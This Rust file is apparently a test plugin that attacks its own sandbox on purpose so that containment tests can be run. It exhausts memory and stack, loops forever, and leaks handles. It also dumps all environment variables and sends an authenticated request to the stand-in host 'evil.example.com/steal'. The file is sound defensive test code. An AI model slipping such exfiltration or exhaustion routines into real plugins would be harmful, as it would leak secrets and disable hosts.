//! `test-hostile`: a test plugin that misbehaves on purpose (endless loops,
//! memory and stack exhaustion, huge outputs, panics, forbidden hosts, leaked
//! resource handles, prying into the environment) so the host's sandbox
//! tests can check that each is contained and that the host keeps serving
//! afterwards.

use std::collections::BTreeMap;
use std::hint::black_box;
use std::time::Duration;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};
use weft_sdk::{Action, Auth, Ctx, Empty, Integration, Metadata, Result};

struct TestHostile;

impl Integration for TestHostile {
    fn metadata() -> Metadata {
        Metadata::new("test-hostile", "Test Hostile", "0.1.0")
            .description("Misbehaves on purpose to test the sandbox")
            .base_url("https://api.hostile.test")
            .allowed_hosts(["api.hostile.test"])
            .auth(Auth::none())
    }

    fn actions() -> Vec<Action> {
        vec![
            Action::new("OK", "Ok", ok),
            Action::new("LOOP", "Loop forever", spin),
            Action::new("MEMORY_BOMB", "Exhaust memory", memory_bomb),
            Action::new("RECURSE", "Recurse", recurse),
            Action::new("HUGE_OUTPUT", "Huge output", huge_output),
            Action::new("PANIC", "Panic", panic),
            Action::new("FORBIDDEN_HOST", "Call a forbidden host", forbidden_host),
            Action::new("SLEEP", "Sleep", sleep),
            Action::new("ENV", "Read the environment", environment),
            Action::new("LEAK_HANDLES", "Create resource handles and never drop them", leak_handles),
        ]
    }
}

weft_sdk::export_integration!(TestHostile);

#[derive(Serialize, JsonSchema)]
struct OkOut {
    ok: bool,
}

fn ok(_cx: &Ctx, _: Empty) -> Result<OkOut> {
    Ok(OkOut { ok: true })
}

fn spin(_cx: &Ctx, _: Empty) -> Result<Empty> {
    // `black_box` makes every iteration observable, so the loop survives
    // optimization and only the host's epoch deadline can stop it.
    let mut n = 0u64;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

fn memory_bomb(_cx: &Ctx, _: Empty) -> Result<Empty> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        let mut chunk = vec![0u8; 1 << 20];
        // Write every page so the memory is really committed.
        for i in (0..chunk.len()).step_by(4096) {
            chunk[i] = 1;
        }
        hoard.push(black_box(chunk));
    }
}

#[derive(Deserialize, Serialize, JsonSchema)]
struct Depth {
    depth: u64,
}

fn recurse(_cx: &Ctx, input: Depth) -> Result<Depth> {
    let depth = black_box(descend(input.depth));
    Ok(Depth { depth })
}

/// Recurses `depth` times with a 1 KiB frame that stays alive across the
/// call, so it can be neither turned into a loop nor shrunk.
#[inline(never)]
fn descend(depth: u64) -> u64 {
    let mut frame = [0u8; 1024];
    frame[(depth % 1024) as usize] = 1;
    black_box(&mut frame);
    if depth == 0 {
        return 0;
    }
    let below = descend(depth - 1);
    black_box(&frame);
    below + 1
}

#[derive(Deserialize, JsonSchema)]
struct Bytes {
    bytes: usize,
}

#[derive(Serialize, JsonSchema)]
struct Data {
    data: String,
}

fn huge_output(_cx: &Ctx, input: Bytes) -> Result<Data> {
    Ok(Data { data: "x".repeat(input.bytes) })
}

fn panic(_cx: &Ctx, _: Empty) -> Result<Empty> {
    panic!("hostile panic")
}

#[derive(Serialize, JsonSchema)]
#[serde(untagged)]
enum Attempt {
    Refused { error: String, message: String },
    Answered { status: u16 },
}

fn forbidden_host(cx: &Ctx, _: Empty) -> Result<Attempt> {
    let attempt = cx.http().get("https://evil.example.com/steal").connection_auth().send_raw();
    Ok(match attempt {
        Ok(answer) => Attempt::Answered { status: answer.status },
        Err(e) => Attempt::Refused { error: e.kind().to_string(), message: e.message() },
    })
}

#[derive(Deserialize, JsonSchema)]
struct Sleep {
    ms: u64,
}

fn sleep(_cx: &Ctx, input: Sleep) -> Result<Empty> {
    std::thread::sleep(Duration::from_millis(input.ms));
    Ok(Empty {})
}

#[derive(Serialize, JsonSchema)]
struct Environment {
    vars: BTreeMap<String, String>,
    args: Vec<String>,
    cwd: Option<String>,
}

/// Everything `wasi:cli/environment` tells the guest about the host process.
fn environment(_cx: &Ctx, _: Empty) -> Result<Environment> {
    Ok(Environment {
        vars: std::env::vars().collect(),
        args: std::env::args().collect(),
        cwd: std::env::current_dir().ok().map(|d| d.display().to_string()),
    })
}

// The raw import, not std: std drops every stream it opens, and this action
// must keep them. Each call makes the host push a new output stream into
// its resource table and hand the guest an owned handle to it.
#[link(wasm_import_module = "wasi:cli/stdout@0.2.0")]
unsafe extern "C" {
    #[link_name = "get-stdout"]
    fn get_stdout() -> i32;
}

#[derive(Deserialize, Serialize, JsonSchema)]
struct Count {
    count: u64,
}

fn leak_handles(_cx: &Ctx, input: Count) -> Result<Count> {
    for _ in 0..input.count {
        // SAFETY: `get-stdout` takes nothing and returns a handle index; the
        // handle is never used, so it can be neither misused nor freed twice.
        black_box(unsafe { get_stdout() });
    }
    Ok(Count { count: input.count })
}
